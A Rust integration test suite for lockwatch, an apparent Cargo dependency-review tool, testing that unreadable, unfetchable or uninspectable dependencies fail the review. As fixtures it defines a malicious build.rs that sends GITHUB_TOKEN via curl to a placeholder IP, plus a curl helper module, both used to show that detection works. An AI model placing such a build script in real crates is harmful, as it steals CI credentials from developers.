//! Issue 13, engine side: fail closed. What lockwatch could not read, fetch or inspect and
//! that could hide a `deny` fails the review with an `unreviewable` finding, end to end
//! through the real binary and a local sparse registry.

#![allow(clippy::unwrap_used)] // test helpers: a panic is the failure report

use lockwatch::registry::IndexDep;
use lockwatch::registry::fake::FakeRegistry;
use lockwatch::testkit::Krate;
use lockwatch_tests::lockgen::{Pkg, lock, member};
use lockwatch_tests::registry_check::{findings, pkg, run_check};
use serde_json::Value;

const EVIL_BUILD: &str = r#"use std::process::Command;
fn main() {
    let token = std::env::var("GITHUB_TOKEN").unwrap_or_default();
    Command::new("curl").arg("-d").arg(token).arg("http://203.0.113.7/").status().ok();
}
"#;

fn year_ago() -> time::OffsetDateTime {
    time::OffsetDateTime::now_utc() - time::Duration::days(365)
}

/// The arrayref attack: `arrayref` 0.3.9 -> 0.3.10 pulls in `proc-macro1`, whose build
/// script leaks a token with `curl`. Returns the base and head lock files (format 4).
async fn arrayref_attack(registry: &FakeRegistry) -> (String, String) {
    let old = Krate::new("arrayref", "0.3.9")
        .file("src/lib.rs", "pub fn f() {}\n")
        .build();
    let new = Krate::new("arrayref", "0.3.10")
        .file("src/lib.rs", "pub fn f() {}\n")
        .build();
    let evil = Krate::new("proc-macro1", "1.0.0")
        .file("src/lib.rs", "")
        .file("build.rs", EVIL_BUILD)
        .build();
    let old_sum = registry.publish("arrayref", "0.3.9", old, vec![]);
    let new_sum = registry.publish(
        "arrayref",
        "0.3.10",
        new,
        vec![IndexDep::normal("proc-macro1", "^1")],
    );
    let evil_sum = registry.publish("proc-macro1", "1.0.0", evil, vec![]);
    let base = lock(
        4,
        &[
            member("app", "0.1.0").deps(&["arrayref"]),
            pkg("arrayref", "0.3.9", &old_sum, &[]),
        ],
    );
    let head = lock(
        4,
        &[
            member("app", "0.1.0").deps(&["arrayref"]),
            pkg("arrayref", "0.3.10", &new_sum, &["proc-macro1"]),
            pkg("proc-macro1", "1.0.0", &evil_sum, &[]),
        ],
    );
    (base, head)
}

fn all_findings<'a>(v: &'a Value, code: &str) -> Vec<&'a Value> {
    v["findings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|f| f["code"] == code)
        .collect()
}

/// 13.1: the format line is TOML, as Cargo reads it. Each spelling Cargo accepts for 4 is
/// reviewed like `version = 4`; before, lockwatch called it an unknown format and the
/// verdict was `warn`, with the attack unseen.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_comment_or_another_spelling_in_the_format_line_does_not_hide_the_attack() {
    let registry = FakeRegistry::start().await;
    let (base, head) = arrayref_attack(&registry).await;
    for line in [
        "version = 4 # reviewed",
        "version = 0x4",
        "version = +4",
        "version = 0b100",
        "version = 0o4",
    ] {
        let scratch = tempfile::tempdir().unwrap();
        let head = head.replacen("version = 4", line, 1);
        assert!(head.contains(line));
        let v = run_check(&base, &head, &registry, scratch.path(), &[]);
        assert_eq!(v["verdict"], "fail", "{line}: {v:#}");
        assert_eq!(v["lockfiles"][0]["head_format"], 4, "{line}");
        assert!(all_findings(&v, "unreviewable").is_empty(), "{line}: {v:#}");
        let caps = findings(&v, "build-capability", "proc-macro1");
        assert!(caps.iter().any(|f| f["level"] == "deny"), "{line}: {v:#}");
    }
}

/// 13.1: a lock file lockwatch cannot read fails (it was `warn`), and an unreadable base
/// does not hide the head: the head is reviewed against an empty base and the finding
/// names the base file by its own path ("Smaller": it named the head path with "(base)").
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn unreadable_lock_files_fail_and_an_unreadable_base_hides_nothing() {
    let registry = FakeRegistry::start().await;
    let (base, head) = arrayref_attack(&registry).await;

    let scratch = tempfile::tempdir().unwrap();
    let broken_head = head.replacen("version = 4", "version = 9", 1);
    let v = run_check(&base, &broken_head, &registry, scratch.path(), &[]);
    assert_eq!(v["verdict"], "fail", "{v:#}");
    let un = all_findings(&v, "unreviewable");
    assert_eq!(un.len(), 1, "{v:#}");
    assert_eq!(un[0]["level"], "deny");
    assert!(
        un[0]["message"]
            .as_str()
            .unwrap()
            .contains("lock format version 9"),
        "{}",
        un[0]
    );
    assert_eq!(v["lockfiles"][0]["status"], "unreviewable");

    let scratch = tempfile::tempdir().unwrap();
    let broken_base = "[[package]\nname = ";
    let v = run_check(broken_base, &head, &registry, scratch.path(), &[]);
    assert_eq!(v["verdict"], "fail", "{v:#}");
    let caps = findings(&v, "build-capability", "proc-macro1");
    assert!(
        caps.iter().any(|f| f["level"] == "deny"),
        "the head's findings are reported: {v:#}"
    );
    let un = all_findings(&v, "unreviewable");
    assert_eq!(un.len(), 1, "{v:#}");
    assert_eq!(un[0]["level"], "deny");
    let msg = un[0]["message"].as_str().unwrap();
    assert!(msg.contains("base.lock"), "names the base file: {msg}");
    assert!(!msg.contains("Cargo.lock (base)"), "{msg}");
    assert!(msg.contains("empty base"), "{msg}");
    assert_eq!(v["lockfiles"][0]["status"], "modified");
}

/// A crate `name` 1.0.0 with `files`, published a year ago; returns its checksum.
fn publish(registry: &FakeRegistry, name: &str, files: &[(&str, &str)]) -> String {
    let mut k = Krate::new(name, "1.0.0").file("src/lib.rs", "");
    for (path, text) in files {
        k = k.file(path, text);
    }
    let sum = registry.publish(name, "1.0.0", k.build(), vec![]);
    registry.set_pubtime(name, "1.0.0", year_ago());
    sum
}

fn adds(packages: &[Pkg]) -> (String, String) {
    let names: Vec<&str> = packages.iter().map(|p| p.name.as_str()).collect();
    let mut head = vec![member("app", "0.1.0").deps(&names)];
    head.extend_from_slice(packages);
    (lock(3, &[member("app", "0.1.0")]), lock(3, &head))
}

/// 13.7: build-time code that could not be read is `unreviewable` at `deny`, and the
/// inspection's notes reach the report. The control (same module, not padded) fails on
/// `build-capability`; padded past the parser's token limit it used to become an internal
/// note, and the verdict was `warn`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn build_time_code_that_could_not_be_read_fails() {
    let registry = FakeRegistry::start().await;
    let build = "mod helper;\nmod gone;\nfn main() { helper::run(); }\n";
    let helper = "pub fn run() {\n    std::process::Command::new(\"curl\").arg(\"http://203.0.113.7/\").status().ok();\n}\n";
    let padded = format!(
        "{helper}pub const PAD: &[u8] = &[{}];\n",
        "0,".repeat(300_000)
    );
    let control = publish(
        &registry,
        "helperctl",
        &[("build.rs", build), ("helper.rs", helper)],
    );
    let padded_sum = publish(
        &registry,
        "helperpad",
        &[("build.rs", build), ("helper.rs", &padded)],
    );

    let scratch = tempfile::tempdir().unwrap();
    let (base, head) = adds(&[pkg("helperctl", "1.0.0", &control, &[])]);
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    assert_eq!(v["verdict"], "fail", "{v:#}");
    assert_eq!(
        findings(&v, "build-capability", "helperctl")[0]["level"],
        "deny"
    );

    let scratch = tempfile::tempdir().unwrap();
    let (base, head) = adds(&[pkg("helperpad", "1.0.0", &padded_sum, &[])]);
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    assert_eq!(v["verdict"], "fail", "{v:#}");
    assert!(findings(&v, "build-capability", "helperpad").is_empty());
    let un = findings(&v, "unreviewable", "helperpad");
    assert_eq!(un.len(), 1, "{v:#}");
    assert_eq!(un[0]["level"], "deny");
    assert!(
        un[0]["evidence"][0]["text"]
            .as_str()
            .unwrap()
            .contains("`helper.rs` was not inspected"),
        "{}",
        un[0]
    );
    let notes: Vec<&str> = v["notes"]
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_str().unwrap())
        .collect();
    assert!(
        notes
            .iter()
            .any(|n| n.starts_with("`helperpad` 1.0.0:") && n.contains("gone.rs")),
        "every inspection note reaches the report: {notes:?}"
    );
}

/// 13.7: a build script over the per-file limit, a git source and a registry the policy
/// does not name were `warn`: none of them was inspected, so each is `unreviewable` at
/// `deny`.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_oversized_build_script_a_git_source_and_an_unknown_registry_fail() {
    let registry = FakeRegistry::start().await;
    let big = format!(
        "fn main() {{}}\n{}",
        "// padding padding padding padding\n".repeat(130_000)
    );
    assert!(big.len() > 4 * 1024 * 1024);
    let sum = publish(&registry, "bigbuild", &[("build.rs", &big)]);
    let scratch = tempfile::tempdir().unwrap();
    let (base, head) = adds(&[pkg("bigbuild", "1.0.0", &sum, &[])]);
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    assert_eq!(v["verdict"], "fail", "{v:#}");
    let un = findings(&v, "unreviewable", "bigbuild");
    assert_eq!(un.len(), 1, "{v:#}");
    assert_eq!(un[0]["level"], "deny");
    assert!(
        un[0]["message"].as_str().unwrap().contains("build.rs"),
        "{}",
        un[0]
    );

    for (name, source) in [
        (
            "gitdep",
            "git+https://github.com/someone/gitdep?rev=abc#0123456789abcdef",
        ),
        ("corpdep", "sparse+https://registry.example.com/index/"),
    ] {
        let scratch = tempfile::tempdir().unwrap();
        let p = Pkg {
            name: name.into(),
            version: "1.0.0".into(),
            source: Some(source.into()),
            checksum: source.starts_with("sparse+").then(|| "ab".repeat(32)),
            deps: Vec::new(),
        };
        let (base, head) = adds(&[p]);
        let v = run_check(&base, &head, &registry, scratch.path(), &[]);
        assert_eq!(v["verdict"], "fail", "{name}: {v:#}");
        let un = findings(&v, "unreviewable", name);
        assert_eq!(un.len(), 1, "{name}: {v:#}");
        assert_eq!(un[0]["level"], "deny", "{name}");
        // Offline by choice changes nothing for them: lockwatch never fetches them.
        let v = run_check(&base, &head, &registry, scratch.path(), &["--offline"]);
        assert_eq!(v["verdict"], "fail", "{name} offline: {v:#}");
    }

    // A crates.io crate skipped offline by choice is a note, not a failure.
    let scratch = tempfile::tempdir().unwrap();
    let (base, head) = adds(&[pkg("bigbuild", "1.0.0", &sum, &[])]);
    let v = run_check(&base, &head, &registry, scratch.path(), &["--offline"]);
    assert_ne!(v["verdict"], "fail", "{v:#}");
    assert!(all_findings(&v, "unreviewable").is_empty(), "{v:#}");
    assert!(
        v["notes"].as_array().unwrap().iter().any(|n| n
            .as_str()
            .unwrap()
            .contains("1 new or changed crate was not inspected")),
        "{v:#}"
    );
}

/// 13.8: a lock entry `evil 1.0.0` carrying the checksum of a crate reviewed earlier used
/// to get that crate's cached clean result. The lock checksum is compared with the index's
/// `cksum` first: `checksum-mismatch`, deny.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_borrowed_checksum_gets_no_cached_result() {
    let registry = FakeRegistry::start().await;
    let benign = publish(&registry, "quietlamp", &[]);
    let evil = publish(&registry, "rustybolt", &[("build.rs", EVIL_BUILD)]);
    let scratch = tempfile::tempdir().unwrap();

    let (base, head) = adds(&[pkg("quietlamp", "1.0.0", &benign, &[])]);
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    assert_ne!(v["verdict"], "fail", "the benign crate is clean: {v:#}");

    // Same scratch directory: the same caches.
    let (base, head) = adds(&[pkg("rustybolt", "1.0.0", &benign, &[])]);
    let v = run_check(&base, &head, &registry, scratch.path(), &[]);
    assert_eq!(v["verdict"], "fail", "{v:#}");
    let mismatch = findings(&v, "checksum-mismatch", "rustybolt");
    assert_eq!(mismatch.len(), 1, "{v:#}");
    assert_eq!(mismatch[0]["level"], "deny");
    let msg = mismatch[0]["message"].as_str().unwrap();
    assert!(msg.contains(&benign) && msg.contains(&evil), "{msg}");
}

/// 13.9: every field a trust entry pins must match, the source included.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn trust_entries_match_version_checksum_and_source() {
    let registry = FakeRegistry::start().await;
    let other = FakeRegistry::start().await;
    let sum = publish(&registry, "trusty", &[("build.rs", EVIL_BUILD)]);
    let bytes = Krate::new("trusty", "1.0.0")
        .file("src/lib.rs", "")
        .file(
            "build.rs",
            &EVIL_BUILD.replace("203.0.113.7", "198.51.100.9"),
        )
        .build();
    let other_sum = other.publish("trusty", "1.0.0", bytes, vec![]);
    other.set_pubtime("trusty", "1.0.0", year_ago());
    let other_index = other.index_url().to_string();
    let registries = format!("[[registries]]\nname = \"corp\"\nindex = \"{other_index}\"\n\n");

    let check = |policy: String, head_pkg: Pkg| {
        let scratch = tempfile::tempdir().unwrap();
        let cfg = scratch.path().join("policy.toml");
        std::fs::write(&cfg, format!("{registries}{policy}")).unwrap();
        let (base, head) = adds(&[head_pkg]);
        let cfg = cfg.display().to_string();
        run_check(&base, &head, &registry, scratch.path(), &["--config", &cfg])
    };
    let caps_level = |v: &Value| -> Vec<String> {
        findings(v, "build-capability", "trusty")
            .iter()
            .map(|f| f["level"].as_str().unwrap().to_string())
            .collect()
    };
    let io_pkg = pkg("trusty", "1.0.0", &sum, &[]);
    let corp_pkg = Pkg {
        source: Some(other_index.clone()),
        checksum: Some(other_sum.clone()),
        ..io_pkg.clone()
    };
    let wrong = "cd".repeat(32);

    // Control: the right version and checksum trust it.
    let v = check(
        format!(
            "[[trust]]\ncrate = \"trusty\"\nversion = \"1.0.0\"\nchecksum = \"{sum}\"\nreason = \"reviewed\"\n"
        ),
        io_pkg.clone(),
    );
    assert!(caps_level(&v).iter().all(|l| l == "allow"), "{v:#}");
    assert!(!caps_level(&v).is_empty());
    assert_ne!(v["verdict"], "fail", "{v:#}");

    // A version and a wrong checksum: not trusted.
    let v = check(
        format!(
            "[[trust]]\ncrate = \"trusty\"\nversion = \"1.0.0\"\nchecksum = \"{wrong}\"\nreason = \"reviewed\"\n"
        ),
        io_pkg.clone(),
    );
    assert!(caps_level(&v).iter().any(|l| l == "deny"), "{v:#}");
    assert_eq!(v["verdict"], "fail");

    // A checksum-only entry matches.
    let v = check(
        format!("[[trust]]\ncrate = \"trusty\"\nchecksum = \"{sum}\"\nreason = \"reviewed\"\n"),
        io_pkg.clone(),
    );
    assert!(caps_level(&v).iter().all(|l| l == "allow"), "{v:#}");
    assert_ne!(v["verdict"], "fail", "{v:#}");

    // An entry without `registry` covers crates.io only, not a crate of that name from
    // another registry; `registry = "corp"` covers that one.
    let plain = "[[trust]]\ncrate = \"trusty\"\nversion = \"1.0.0\"\nreason = \"reviewed\"\n";
    let v = check(plain.to_string(), corp_pkg.clone());
    assert!(
        caps_level(&v).iter().any(|l| l == "deny"),
        "the other registry's crate was inspected and is not trusted: {v:#}"
    );
    assert_eq!(v["verdict"], "fail");
    let v = check(
        plain.replace("reason", "registry = \"corp\"\nreason"),
        corp_pkg,
    );
    assert!(caps_level(&v).iter().all(|l| l == "allow"), "{v:#}");
    assert!(!caps_level(&v).is_empty());
    assert_ne!(v["verdict"], "fail", "{v:#}");
}
